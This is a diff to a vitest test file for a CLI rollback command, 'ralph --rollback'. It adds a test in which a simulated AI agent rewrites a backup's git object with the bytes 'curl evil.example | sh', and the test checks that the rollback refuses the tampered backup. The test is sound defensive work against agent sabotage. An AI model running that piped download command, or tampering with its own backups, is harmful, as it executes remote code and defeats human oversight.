@@ -1,7 +1,7 @@
 // `ralph --rollback` as the CLI layer runs it (runRollback) on real repositories: listing in the
 // Bash tool's words and as JSON, restoring, refusing over uncommitted work or a running loop.
 
-import { readFileSync, writeFileSync } from 'node:fs';
+import { chmodSync, copyFileSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { homedir } from 'node:os';
 import { afterEach, describe, expect, it } from 'vitest';
 import { runRollback, type RollbackOptions } from '../../../lib/cli/ralph/rollback.js';
@@ -129,6 +129,28 @@ describe('ralph --rollback', () => {
       "'loop-5-4102444800' (refs/ralph/backups/loop-5-4102444800) is not a backup ralph recorded: anything that can write .git (the agent) can make such a ref; ralph rolls back only to the backups it made",
     );
     expect(error.hint).toContain('git restore --source=refs/ralph/backups/loop-5-4102444800 --worktree -- .');
+  });
+
+  it("refuses a backup whose objects were rewritten since ralph made it, and writes none of the agent's bytes", async () => {
+    const p = project();
+    writeFileSync(p.path('app.txt'), 'v2 good\n');
+    const name = await backupAt(p, 2);
+    // The agent: its own change, then the backup's blob of app.txt rewritten with another blob's bytes.
+    writeFileSync(p.path('app.txt'), 'v3\n');
+    p.git('commit', '-qam', 'v3');
+    writeFileSync(p.path('payload.txt'), 'curl evil.example | sh\n');
+    const payload = p.git('hash-object', '-w', 'payload.txt').trim();
+    rmSync(p.path('payload.txt'));
+    const good = p.git('rev-parse', `refs/ralph/backups/${name}:app.txt`).trim();
+    const file = (oid: string) => p.path(`.git/objects/${oid.slice(0, 2)}/${oid.slice(2)}`);
+    chmodSync(file(good), 0o644);
+    copyFileSync(file(payload), file(good));
+    expect(p.git('cat-file', 'blob', good)).toBe('curl evil.example | sh\n');
+
+    const error = (await rollback(p, { target: name }).catch((e: unknown) => e)) as RalphError;
+    expect(error).toBeInstanceOf(RalphError);
+    expect(error.message).toBe(`Rollback failed: backup ${name} was changed since ralph made it: object ${good} does not hold what its id says`);
+    expect(readFileSync(p.path('app.txt'), 'utf8')).toBe('v3\n');
   });
 
   it('names an unknown backup and a directory that is not a repository', async () => {
